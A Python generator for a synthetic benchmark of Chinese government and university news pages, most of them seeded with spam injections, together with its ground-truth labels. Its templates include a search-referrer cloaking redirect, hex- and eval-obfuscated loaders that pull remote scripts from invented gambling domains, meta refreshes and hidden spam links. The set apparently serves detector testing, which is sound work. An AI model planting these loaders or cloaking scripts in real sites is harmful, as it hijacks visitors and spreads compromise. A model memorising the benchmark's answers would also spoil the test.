#!/usr/bin/env python3
"""Generate bench/data/heldout/synthetic-v11 (40 pages: 28 hijacked, 12 clean of which 4 legit).
Fixed seed; byte-identical re-run.  Usage: python make_set.py [outdir]"""
import json, os, random, sys, html as H

SEED = 111111
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "synthetic-v11")

# ---------------- articles (invented) ----------------
ARTS = [
 ("县农业农村局开展春季农资打假专项行动", "县农业农村局", ["3月中旬起，县农业农村局联合市场监管部门在全县范围内开展春季农资打假专项行动，重点检查种子、化肥、农药经营门店。",
   "执法人员逐户查验经营许可证、进货台账和产品标签，对标识不清的12批次化肥进行抽样送检。", "下一步，该局将公布举报电话，畅通群众投诉渠道，确保春耕生产用上放心农资。"]),
 ("学校举办第十二届大学生创新创业大赛校内选拔赛", "创新创业学院", ["5月18日，学校第十二届大学生创新创业大赛校内选拔赛在图文信息中心举行，来自14个学院的86支团队参赛。",
   "参赛项目涵盖智能制造、乡村振兴、生物医药等领域，评委从创新性、团队协作和商业可行性等方面进行评分。", "经过激烈角逐，共有20个项目晋级省赛，学校将组织专家开展一对一辅导。"]),
 ("市图书馆“书香进社区”活动走进梧桐街道", "市文化广电旅游局", ["4月23日世界读书日当天，市图书馆在梧桐街道社区服务中心举办“书香进社区”活动，现场赠送图书六百余册。",
   "活动设置亲子共读、非遗剪纸体验和图书漂流等环节，吸引了二百多名居民参与。", "市图书馆负责人介绍，今年将在全市新建15个社区阅读点，推动全民阅读走深走实。"]),
 ("镇卫生院开展老年人免费健康体检", "镇卫生院", ["近日，镇卫生院组织医护人员深入各村开展65岁以上老年人免费健康体检工作。",
   "体检项目包括血常规、肝肾功能、心电图和B超等，卫生院还为每位老人建立了电子健康档案。", "截至目前，已完成体检1320人次，对发现的慢性病患者进行了跟踪随访。"]),
 ("外国语学院举行“一带一路”国际传播论坛", "外国语学院", ["11月9日，外国语学院举办“一带一路”国际传播论坛，来自国内8所高校的专家学者参加论坛。",
   "与会专家围绕多语种人才培养、区域国别研究与对外话语体系建设等议题展开研讨。", "论坛期间还举行了学院与两家企业共建实习基地的签约仪式。"]),
 ("区应急管理局组织开展防汛应急演练", "区应急管理局", ["6月5日，区应急管理局在清溪河沿岸组织开展防汛应急演练，区水务、消防等8个部门参加。",
   "演练模拟强降雨导致河道水位暴涨、低洼地带群众被困的场景，检验了预警发布、人员转移和抢险救援等环节。", "演练结束后，相关负责人对各单位表现进行点评，并部署了主汛期各项防范工作。"]),
 ("计算机学院召开本科教学工作专题会议", "计算机学院", ["9月12日下午，计算机学院召开本科教学工作专题会议，学院领导班子、各系主任和教师代表参加会议。",
   "会议通报了上学期期末考试和毕业设计检查情况，分析了课程考核中存在的问题。", "院长强调，要以专业认证为抓手，持续推进课程体系改革，提高人才培养质量。"]),
 ("市人社局举办2025年春季大型招聘会", "市人力资源和社会保障局", ["2月15日，市人社局在会展中心举办2025年春季大型招聘会，共有312家企业进场招聘，提供岗位9800余个。",
   "招聘会现场设置政策咨询、技能培训报名和创业贷款咨询等服务台，为求职者提供一站式服务。", "据初步统计，当天进场求职者约1.6万人次，达成初步就业意向3100余人。"]),
 ("附属中学开展消防安全疏散演练", "附属中学", ["10月17日，附属中学组织全校师生开展消防安全疏散演练，两千余名师生参加。",
   "随着警报声响起，各班学生在教师带领下用湿毛巾捂住口鼻，沿指定路线有序撤离到操场，全程用时3分40秒。", "演练后，消防救援站官兵为师生讲解了灭火器的使用方法。"]),
 ("县市场监管局公布一批食品安全抽检结果", "县市场监督管理局", ["县市场监管局近日公布2025年第二季度食品安全监督抽检结果，共抽检食品样品416批次。",
   "抽检结果显示，合格样品409批次，不合格样品7批次，主要问题为农药残留超标和微生物污染。", "对抽检不合格的食品，该局已责令经营者立即下架，并依法立案调查。"]),
 ("马克思主义学院开展青年教师教学竞赛", "马克思主义学院", ["为提升青年教师教学能力，马克思主义学院近日举办青年教师教学竞赛，11名青年教师参赛。",
   "参赛教师围绕思想政治理论课重点难点进行20分钟课堂教学展示，评委现场打分。", "学院将推荐获得一等奖的教师参加学校教学竞赛。"]),
 ("街道办组织开展垃圾分类入户宣传", "南湖街道办事处", ["连日来，南湖街道组织志愿者深入辖区12个小区开展垃圾分类入户宣传，发放宣传手册四千余份。",
   "志愿者通过现场演示、有奖问答等方式，向居民讲解厨余垃圾、可回收物和有害垃圾的分类方法。", "街道还将在各小区设置积分兑换点，鼓励居民养成分类投放习惯。"]),
 ("学院召开2025届毕业生就业工作推进会", "经济管理学院", ["6月3日，经济管理学院召开2025届毕业生就业工作推进会，学院班子成员、辅导员和毕业班班主任参加。",
   "会议通报了当前毕业生签约情况，截至5月底，学院毕业生去向落实率为78.6%。", "学院要求各班建立未就业毕业生台账，做到一人一策，精准帮扶。"]),
 ("区教育局召开中小学安全工作会议", "区教育局", ["8月28日，区教育局召开秋季开学中小学安全工作会议，全区各中小学校长参加会议。",
   "会议对校园安全隐患排查、校车安全管理、食品安全和防溺水教育等工作进行了部署。", "区教育局将于开学前组织专项督查组，对各学校安全工作开展检查。"]),
]
LEGIT = [
 ("省福利彩票发行中心开展“公益彩票”进社区宣传活动", "省福利彩票发行中心", ["近日，省福利彩票发行中心在省会多个社区开展“公益彩票 责任彩票”宣传活动，向居民介绍福利彩票公益金的筹集和使用情况。",
   "工作人员提醒，购买彩票应理性投注、量力而行，未成年人不得购买彩票，并现场讲解了如何识别非法网络售彩。", "据介绍，去年全省福利彩票共筹集公益金12.3亿元，主要用于养老服务、残疾人康复和儿童福利等项目。"]),
 ("市公安局破获一起特大跨境网络赌博案", "市公安局", ["近日，市公安局成功破获一起特大跨境网络赌博案，抓获犯罪嫌疑人27名，冻结涉案资金3600余万元。",
   "经查，该团伙在境外架设赌博网站，通过社交软件发展代理、招揽参赌人员，并利用第三方支付通道转移赌资。", "警方提醒广大群众，网络赌博“十赌九骗”，切勿轻信所谓“稳赚不赔”的投注平台。"]),
 ("法学院举办“彩票监管与博彩法律问题”学术沙龙", "法学院", ["11月22日，法学院举办“彩票监管与博彩法律问题”学术沙龙，校内外二十余名专家学者参加。",
   "与会学者围绕彩票管理条例修订、网络赌博犯罪的司法认定以及跨境赌博资金链治理等问题展开讨论。", "有学者指出，应加强体育彩票和福利彩票的统一监管，依法严厉打击私彩和境外赌博活动。"]),
 ("体育彩票管理中心发布上半年销售和公益金筹集情况", "市体育彩票管理中心", ["市体育彩票管理中心近日发布上半年工作报告，全市体育彩票累计销售8.7亿元，筹集公益金2.2亿元。",
   "报告显示，竞彩游戏销量同比增长，管理中心同步加强了实体店的责任彩票培训和防沉迷提示。", "体彩公益金将继续用于全民健身设施建设、青少年体育活动等公益事业。"]),
]

NAMES = ["李振华", "陈思远", "周晓梅", "吴建国", "郑丽娟", "冯志强", "韩雪", "赵一鸣", "杨帆", "许文静", "高峻", "罗敏"]
SITES = {
 "W1": ("临川大学新闻网", "edu"), "X2": ("青岭县人民政府", "gov"), "U3": ("江屿市人民政府门户网站", "gov"),
 "H4": ("梧州师范学院团委", "edu"), "C5": ("北辰职业技术学院", "edu"), "N6": ("东澜区人民政府", "gov"),
}
ENC = {"W1": "utf-8", "X2": "gbk", "U3": "utf-8", "H4": "utf-8", "C5": "gb18030", "N6": "utf-8"}

# ---------------- invented brands / spam (checked against dev spam_strings) ----------------
BRANDS = ["沧溟娱乐城", "翡翠湾体育", "金帛汇真人", "汐月棋牌", "霁川彩票", "蔚澜国际", "赤霄电竞", "璟瑞娱乐", "曜石真人", "澄江棋牌"]
DOMS = ["cm8852.vip", "fcw-ty.top", "jbh77zr.cc", "xyqp-606.xyz", "jcccp.buzz", "wl-intl9.vip", "cxdj518.top", "jryl-31.cc", "yszr-88.xyz", "cjqp.club"]
PORN = ["免费午夜影院精品视频", "日韩高清无码在线播放", "成人影片资源在线看", "夜间福利视频网站", "偷拍自拍在线观看网址"]
LOTTO = ["香港六合彩开奖直播", "澳门特码资料大全", "时时彩计划群在线", "北京赛车平台开户"]

def spam_link_block(rng, n=6):
    items = []
    strs = []
    for i in range(n):
        b = rng.choice(BRANDS); d = rng.choice(DOMS)
        t = f"{b}官网"
        items.append(f'<a href="https://{d}/">{t}</a>')
        strs.append(t)
    return items, sorted(set(strs))

def inj(form, rng):
    """returns dict(kind, html, where, strings, title_prefix, title_suffix, body_line, source_spam)"""
    b = rng.choice(BRANDS); d = rng.choice(DOMS)
    r = {"form": form, "html": "", "where": "body_end", "strings": [], "title_prefix": "", "title_suffix": "", "para": None, "srcspam": None}
    if form == "hidden_link_block":
        items, s = spam_link_block(rng)
        st = rng.choice(["display:none", "position:absolute;left:-9999px;top:-9999px", "height:0;overflow:hidden", "font-size:0;color:#fff"])
        r["html"] = f'<div style="{st}">' + " ".join(items) + "</div>"
        r["strings"] = s; r["where"] = rng.choice(["body_start", "body_end", "after_article"])
    elif form == "ua_cloak_script":
        r["html"] = ('<script>(function(){var u=navigator.userAgent.toLowerCase(),f=document.referrer;'
                     'if(/baidu|sogou|so\\.com|sm\\.cn/.test(f)&&!/spider|bot/.test(u)){window.location.replace("https://%s/?from=gov");}})();</script>' % d)
        r["strings"] = []; r["where"] = "head"
    elif form == "hex_loader":
        url = f"https://{d}/tj.js"
        hx = "".join("\\x%02x" % ord(c) for c in f'<script src="{url}"></script>')
        r["html"] = f'<script>var _0x5e1=["{hx}"];document["\\x77\\x72\\x69\\x74\\x65"](_0x5e1[0]);</script>'
        r["where"] = rng.choice(["head", "body_end"])
    elif form == "bracket_eval_loader":
        s = f'var s=document.createElement("script");s.src="https://{d}/c.js";document.body.appendChild(s);'
        codes = ",".join(str(ord(c)) for c in s)
        r["html"] = f'<script>window["ev"+"al"](String["fromCharCode"]({codes}));</script>'
        r["where"] = "body_end"
    elif form == "document_write_spam":
        t1, t2 = f"{b}注册送体验金", rng.choice(LOTTO)
        r["html"] = f'<script>document.write("<div style=\\"position:fixed;left:-3000px\\"><a href=\\"https://{d}\\">{t1}</a> <a href=\\"https://{d}/kj\\">{t2}</a></div>");</script>'
        r["strings"] = [t1, t2]; r["where"] = rng.choice(["body_start", "after_article"])
    elif form == "spam_title_prefix":
        t = f"{b}-{rng.choice(LOTTO)}"
        r["title_prefix"] = t + "_"; r["strings"] = [t]; r["where"] = None
    elif form == "keyword_stuffed_title":
        ks = [f"{b}", f"{b}app下载", rng.choice(LOTTO)]
        r["title_suffix"] = "," + ",".join(ks); r["strings"] = ks; r["where"] = None
    elif form == "spam_line_in_body":
        t = f"{b}是亚洲领先的线上娱乐平台，注册即送88元，网址{d}"
        r["para"] = t; r["strings"] = [t]; r["where"] = None
    elif form == "brand_credit_footer":
        t = f"技术支持：{b}"
        a = '<a href="https://%s/">%s</a>' % (d, b)
        r["html"] = '<p class="support">' + t.replace(b, a) + '</p>'
        r["strings"] = [b]; r["where"] = "footer"
    elif form == "sold_friend_links":
        items, s = spam_link_block(rng, 4)
        r["html"] = items; r["strings"] = s; r["where"] = "links"
    elif form == "meta_refresh":
        r["html"] = f'<meta http-equiv="refresh" content="3;url=https://{d}/">'; r["where"] = "head"
    elif form == "porn_keyword_line":
        ks = rng.sample(PORN, 3)
        r["html"] = '<p class="topkw">' + "_".join(ks) + "</p>"; r["strings"] = ["_".join(ks)]; r["where"] = "body_start"
    elif form == "traditional_mirror":
        r["where"] = None  # handled by conversion
        t = f"{b}入口"
        r["html"] = f'<div class="gg-top"><a href="https://{d}/">{t}</a></div>'; r["strings"] = [t]; r["where"] = "body_start"
    elif form == "spam_source_field":
        r["srcspam"] = f"{b}"; r["strings"] = [b]; r["where"] = None
    return r

FORMS = ["hidden_link_block", "ua_cloak_script", "hex_loader", "bracket_eval_loader", "document_write_spam", "spam_title_prefix",
         "keyword_stuffed_title", "spam_line_in_body", "brand_credit_footer", "sold_friend_links", "meta_refresh",
         "porn_keyword_line", "traditional_mirror", "spam_source_field"]

T2S = str.maketrans("县区局学开展检查门店进货标识该将举报电话渠道确保产场动会馆书图读节组织设务发现进题经验术议长员们报协导关级领过来时国计划综合体质机构现实为个应这对说从与头没实样还么业农资", 
                    "縣區局學開展檢查門店進貨標識該將舉報電話渠道確保產場動會館書圖讀節組織設務發現進題經驗術議長員們報協導關級領過來時國計劃綜合體質機構現實為個應這對說從與頭沒實樣還麼業農資")
def trad(s):
    return s.translate(T2S)

# ---------------- templates ----------------
def meta_for(rng, tpl):
    y = rng.choice([2023, 2024, 2025]); m = rng.randint(1, 12); d = rng.randint(1, 28)
    hh, mm = rng.randint(8, 18), rng.randint(0, 59)
    return y, m, d, hh, mm

def render(tpl, title, htitle, date, source, shown_source, author, paras, inj_list, rng, site, url):
    y, m, d, hh, mm = date
    ds = f"{y}-{m:02d}-{d:02d}"
    views = rng.randint(80, 9000)
    head_inj = "".join(i["html"] for i in inj_list if i["where"] == "head")
    bstart = "".join(i["html"] for i in inj_list if i["where"] == "body_start")
    bend = "".join(i["html"] for i in inj_list if i["where"] == "body_end")
    after = "".join(i["html"] for i in inj_list if i["where"] == "after_article")
    foot_inj = "".join(i["html"] for i in inj_list if i["where"] == "footer")
    sold = []
    for i in inj_list:
        if i["where"] == "links": sold += i["html"]
    enc = ENC[tpl]
    links = ['<a href="http://www.gov.cn/">中国政府网</a>', '<a href="http://www.moe.gov.cn/">教育部</a>', '<a href="http://www.news.cn/">新华网</a>'] + sold
    body = "\n".join(f"<p>{H.escape(p)}</p>" for p in paras)
    src = H.escape(shown_source or "")
    au = H.escape(author or "")
    if tpl == "W1":  # Wagtail (Django) university news page
        return enc, f"""<!DOCTYPE html>
<html lang="zh-hans"><head><meta charset="utf-8"><title>{H.escape(title)} | {site}</title>
<meta name="viewport" content="width=device-width, initial-scale=1">{head_inj}
<link rel="stylesheet" href="/static/css/main.3f2a.css"></head>
<body class="template-newspage">{bstart}
<header class="masthead"><div class="masthead__brand"><a href="/">{site}</a></div>
<nav class="primary-nav"><ul><li><a href="/">首页</a></li><li><a href="/news/">学校要闻</a></li><li><a href="/media/">媒体报道</a></li><li><a href="/notice/">通知公告</a></li></ul></nav></header>
<main id="main-content"><ol class="crumbs"><li><a href="/">首页</a></li><li><a href="/news/">学校要闻</a></li></ol>
<article class="news-page">
<h1 class="news-page__title">{H.escape(htitle)}</h1>
<p class="news-page__meta"><time datetime="{ds}T{hh:02d}:{mm:02d}:00+08:00">{y}年{m}月{d}日</time> · 来源：{src} · 撰稿：{au}</p>
<div class="block-paragraph"><div class="rich-text-block">
{body}
</div></div>
<p class="news-page__editor">（责任编辑：{rng.choice(NAMES)}）</p>
</article>{after}
<aside class="related-news"><h2>相关新闻</h2><ul><li><a href="/news/2231/">学校召开安全稳定工作会议</a></li><li><a href="/news/2230/">图书馆开展读书月活动</a></li></ul></aside>
</main>
<footer class="site-foot"><div class="friend-links">{" ".join(links)}</div><p>版权所有 © {site} 地址：临川市学府路88号</p>{foot_inj}</footer>{bend}
</body></html>"""
    if tpl == "X2":  # XunRuiCMS county site, GBK
        return enc, f"""<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=gbk">
<title>{H.escape(title)}-{site}</title><meta name="keywords" content="{H.escape(htitle)}">{head_inj}
<link href="/static/default/pc/css/style.css" rel="stylesheet"></head>
<body>{bstart}
<div class="dr-top"><div class="dr-wrap">欢迎访问{site}！ <a href="/index.php?s=member">登录</a></div></div>
<div class="dr-header"><div class="dr-wrap"><h2 class="dr-logo">{site}</h2></div></div>
<div class="dr-nav"><a href="/">首页</a><a href="/list-xwzx.html">新闻中心</a><a href="/list-zwgk.html">政务公开</a><a href="/list-bsfw.html">办事服务</a></div>
<div class="dr-wrap dr-show">
<div class="dr-pos">当前位置：<a href="/">首页</a> &gt; <a href="/list-xwzx.html">新闻中心</a> &gt; 部门动态</div>
<div class="dr-show-title"><h1>{H.escape(htitle)}</h1></div>
<div class="dr-show-info">来源：{src}&nbsp;&nbsp;&nbsp;作者：{au}&nbsp;&nbsp;&nbsp;发布时间：{ds} {hh:02d}:{mm:02d}&nbsp;&nbsp;&nbsp;浏览：<span id="dr_hits">{views}</span>次</div>
<div class="dr-show-content">
{body}
</div>{after}
<div class="dr-prev-next"><p>上一篇：<a href="/show-1021.html">县政府召开常务会议</a></p><p>下一篇：<a href="/show-1023.html">县林业局开展森林防火巡查</a></p></div>
</div>
<div class="dr-footer"><div class="dr-links">友情链接：{" | ".join(links)}</div>
<p>主办：{site}办公室 &nbsp; 备案号：青ICP备0512345号</p>{foot_inj}</div>{bend}
</body></html>"""
    if tpl == "U3":  # Umbraco (.NET) city portal with 信息公开 <dl>
        return enc, f"""<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>{H.escape(title)}_{site}</title>
<meta name="ArticleTitle" content="{H.escape(htitle)}"><meta name="PubDate" content="{ds} {hh:02d}:{mm:02d}"><meta name="ContentSource" content="{src}">{head_inj}
<link rel="stylesheet" href="/css/umb-site.min.css?v=8"></head>
<body class="umb-articlePage">{bstart}
<div class="umb-header"><span class="umb-sitename">{site}</span><form class="umb-search" action="/search"><input name="q"></form></div>
<ul class="umb-mainnav"><li><a href="/">首页</a></li><li><a href="/zwgk">政务公开</a></li><li><a href="/hdjl">互动交流</a></li></ul>
<section class="umb-content">
<dl class="umb-openinfo">
<dt>索 引 号：</dt><dd>11{rng.randint(1000000,9999999)}/{y}-{rng.randint(100,999):05d}</dd>
<dt>发布机构：</dt><dd>{src}</dd>
<dt>成文日期：</dt><dd>{ds}</dd>
<dt>主题分类：</dt><dd>综合政务</dd>
<dt>文　　号：</dt><dd></dd>
</dl>
<h1 class="umb-article__heading">{H.escape(htitle)}</h1>
<div class="umb-article__sub">发布日期：{ds}　　信息来源：{src}　　字号：[ <a href="#">大</a> <a href="#">中</a> <a href="#">小</a> ]</div>
<div class="umb-grid-rte">
{body}
</div>{after}
<div class="umb-article__tools"><a href="javascript:window.print()">打印本页</a> <a href="javascript:window.close()">关闭窗口</a></div>
</section>
<footer class="umb-footer"><div class="umb-links">{" ".join(links)}</div><p>{site} 主办 政府网站标识码：31{rng.randint(10000000,99999999)}</p>{foot_inj}</footer>{bend}
</body></html>"""
    if tpl == "H4":  # Hexo static blog (theme next-like)
        return enc, f"""<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="UTF-8"><meta name="generator" content="Hexo 6.3.0">
<title>{H.escape(title)} | {site}</title><meta property="og:title" content="{H.escape(htitle)}"><meta property="article:published_time" content="{ds}T{hh:02d}:{mm:02d}:00.000Z">{head_inj}
</head>
<body itemscope itemtype="http://schema.org/WebPage">{bstart}
<div class="headband"></div>
<header class="header"><div class="brand"><a href="/" class="brand-link">{site}</a><p class="brand-sub">共青团 · 青春风采</p></div>
<nav class="menu"><a href="/">首页</a><a href="/archives/">归档</a><a href="/categories/">分类</a><a href="/about/">关于</a></nav></header>
<main class="main"><div class="content-wrap">
<article class="post-block" itemscope itemtype="http://schema.org/Article">
<header class="post-header"><h1 class="post-title" itemprop="name headline">{H.escape(htitle)}</h1>
<div class="post-meta-container"><span class="post-meta-item"><span class="post-meta-item-text">发表于</span> <time itemprop="dateCreated datePublished" datetime="{ds}T{hh:02d}:{mm:02d}:00+08:00">{ds}</time></span>
<span class="post-meta-item"><span class="post-meta-item-text">分类于</span> <a href="/categories/news/">团学动态</a></span></div></header>
<div class="post-body" itemprop="articleBody">
{body}
<blockquote><p>文字：{au}　信息来源：{src}</p></blockquote>
</div>{after}
<footer class="post-footer"><div class="post-nav"><a href="/2024/03/01/a/" rel="prev">“学雷锋”志愿服务月启动</a></div></footer>
</article></div></main>
<footer class="footer"><div class="footer-inner"><div class="links">{" ".join(links)}</div>© {y} {site} | 由 Hexo 强力驱动{foot_inj}</div></footer>{bend}
</body></html>"""
    if tpl == "C5":  # concrete5 college department, GB18030, byline after text
        return enc, f"""<!DOCTYPE html>
<html lang="zh"><head><meta http-equiv="content-type" content="text/html; charset=GB18030">
<title>{site} :: {H.escape(title)}</title><meta name="generator" content="concrete5 - 8.5.4">{head_inj}
<link href="/application/themes/bc/css/main.css" rel="stylesheet"></head>
<body><div class="ccm-page ccm-page-id-{rng.randint(200,900)} page-type-page page-template-right-sidebar">{bstart}
<div class="bc-top"><a href="/">{site}</a><span>BEICHEN VOCATIONAL AND TECHNICAL COLLEGE</span></div>
<div class="bc-menu"><ul class="nav"><li><a href="/">首页</a></li><li><a href="/xyxw">学院新闻</a></li><li><a href="/jxky">教学科研</a></li></ul></div>
<div class="container"><div class="col-sm-8 main-col">
<div class="ccm-block-page-title"><h1 class="page-title">{H.escape(htitle)}</h1></div>
<div class="ccm-block-content">
{body}
<p style="text-align:right">（来源：{src}　作者：{au}　日期：{y}年{m}月{d}日）</p>
</div>{after}
</div><div class="col-sm-4 sidebar"><h4>点击排行</h4><ul><li><a href="/xyxw/1">学院召开教代会</a></li></ul></div></div>
<div class="bc-footer"><div class="bc-links">{" ".join(links)}</div><p>Copyright &copy; {site}</p>{foot_inj}</div>{bend}
</div></body></html>"""
    if tpl == "N6":  # Sitefinity-like district portal, 信息公开 table
        return enc, f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{H.escape(title)}</title><meta name="Generator" content="Sitefinity 14.0.7700.0 DX">{head_inj}
<link href="/ResourcePackages/Bootstrap/assets/dist/css/main.min.css" rel="stylesheet"></head>
<body>{bstart}
<div class="sf-header"><div class="sf-logo">{site}</div><div class="sf-date">今天是：<span id="today"></span></div></div>
<div class="sf-navbar"><a href="/">网站首页</a><a href="/xxgk">信息公开</a><a href="/zwdt">政务动态</a><a href="/zmhd">政民互动</a></div>
<div class="sf-main">
<div class="sf-loc">您现在的位置：<a href="/">首页</a> » <a href="/zwdt">政务动态</a> » 部门信息</div>
<table class="sf-gkinfo" border="1" cellspacing="0">
<tr><td>索引号</td><td>{rng.randint(10**10,10**11-1)}/{y}-0{rng.randint(1000,9999)}</td><td>信息分类</td><td>部门动态</td></tr>
<tr><td>发布机构</td><td>{src}</td><td>生成日期</td><td>{ds}</td></tr>
<tr><td>名称</td><td colspan="3">{H.escape(htitle)}</td></tr></table>
<div class="sf-article"><h2 class="sf-article-title">{H.escape(htitle)}</h2>
<div class="sf-article-info"><span>时间：{y}年{m:02d}月{d:02d}日 {hh:02d}:{mm:02d}</span><span>来源：{src}</span><span>作者：{au}</span><span>访问量：{views}</span></div>
<div class="sfContentBlock">
{body}
</div></div>{after}
</div>
<div class="sf-footer"><div class="sf-friend"><select onchange="window.open(this.value)"><option>--友情链接--</option></select> {" ".join(links)}</div>
<p>{site}办公室主办 联系电话：0571-8{rng.randint(1000000,9999999)}</p>{foot_inj}</div>{bend}
</body></html>"""
    raise ValueError(tpl)

def main():
    rng = random.Random(SEED)
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    tpls = ["W1", "X2", "U3", "H4", "C5", "N6"]
    # plan: 28 hijacked = 14 forms x 2; 8 ordinary clean + 4 legit clean
    plan = []
    for f in FORMS:
        plan.append(("hij", [f])); plan.append(("hij", [f]))
    plan += [("clean", [])] * 8 + [("legit", [])] * 4
    rng.shuffle(plan)
    # add a second form to some hijacked pages
    extra_ok = ["hidden_link_block", "ua_cloak_script", "hex_loader", "sold_friend_links", "brand_credit_footer", "porn_keyword_line"]
    arts = list(ARTS); rng.shuffle(arts)
    legits = list(LEGIT)
    rows = []
    ai = 0
    for n, (cls, forms) in enumerate(plan, 1):
        tpl = tpls[(n - 1) % 6]
        site, kind = SITES[tpl]
        if cls == "hij" and rng.random() < 0.35:
            g = rng.choice([x for x in extra_ok if x not in forms and forms[0] not in ("traditional_mirror",)])
            forms = forms + [g]
        if cls == "legit":
            title, source, paras = legits.pop()
        else:
            title, source, paras = arts[ai % len(arts)]; ai += 1
        paras = list(paras)
        date = meta_for(rng, tpl)
        author = rng.choice(NAMES)
        injs = [inj(f, rng) for f in forms]
        trad_on = "traditional_mirror" in forms
        if trad_on:
            title = trad(title); paras = [trad(p) for p in paras]; source_t = trad(source)
        else:
            source_t = source
        page_title = title; htitle = title
        shown_source = source_t; true_source = source_t
        body_paras = list(paras)
        for i in injs:
            if i["title_prefix"]: page_title = i["title_prefix"] + page_title
            if i["title_suffix"]: page_title = page_title + i["title_suffix"]
            if i["para"]:
                pos = rng.randint(1, len(body_paras)); body_paras.insert(pos, i["para"])
            if i["srcspam"]:
                shown_source = i["srcspam"]; true_source = None
        ext = "gov.cn" if kind == "gov" else "edu.cn"
        url = f"http://www.example-{tpl.lower()}-k11.{ext}/{'news' if kind=='edu' else 'art'}/{date[0]}/{date[1]:02d}/{rng.randint(10000,99999)}.html"
        enc, page = render(tpl, page_title, htitle, date, true_source, shown_source, author, body_paras, injs, rng, site, url)
        pid = f"sv11-{n:03d}"
        with open(os.path.join(OUT, "html", pid + ".html"), "wb") as fh:
            fh.write(page.encode(enc))
        strings = []
        for i in injs:
            for s in i["strings"]:
                if s not in strings: strings.append(s)
        rows.append({"id": pid, "url": url, "title": htitle, "date": f"{date[0]}-{date[1]:02d}-{date[2]:02d}",
                     "source": true_source, "author": author, "text": "\n".join(paras),
                     "hijacked": cls == "hij", "injections": forms if cls == "hij" else [], "spam_strings": strings,
                     "legit": cls == "legit", "lang": "zh", "origin": "synthetic-generator-v11/make_set.py", "kind": "synthetic",
                     "site": site, "capture": "html", "encoding": enc, "template": tpl})
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")

if __name__ == "__main__":
    main()
